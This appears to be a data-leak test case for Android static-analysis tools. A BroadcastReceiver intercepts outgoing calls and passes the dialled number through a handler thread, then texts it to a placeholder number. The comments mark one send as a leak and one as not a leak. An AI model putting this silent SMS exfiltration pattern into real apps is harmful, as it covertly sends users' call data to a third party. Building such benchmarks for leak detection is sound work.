package ways;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.os.Handler;
import android.os.HandlerThread;
import android.os.Message;
import android.telephony.SmsManager;
import java.lang.ref.WeakReference;

/** Whom the user calls, through a thread with a handler. */
public class Dialled extends BroadcastReceiver {
    static final class Outbox extends Handler {
        private final WeakReference<Context> context;

        Outbox(Context context, HandlerThread thread) {
            super(thread.getLooper());
            this.context = new WeakReference<>(context);
        }

        @Override
        public void handleMessage(Message message) {
            SmsManager sms = SmsManager.getDefault();
            if (message.what == 1) sms.sendTextMessage("+15550101", null, (String) message.obj, null, null); // leak
            else sms.sendTextMessage("+15550101", null, "what " + message.what, null, null); // no leak
        }
    }

    @Override
    public void onReceive(Context context, Intent intent) {
        if (!Intent.ACTION_NEW_OUTGOING_CALL.equals(intent.getAction())) return;
        HandlerThread thread = new HandlerThread("out");
        thread.start();
        Outbox box = new Outbox(context, thread);
        Message message = box.obtainMessage();
        message.what = 1;
        message.obj = intent.getStringExtra(Intent.EXTRA_PHONE_NUMBER);
        box.sendMessage(message);
        box.sendEmptyMessage(2);
    }
}
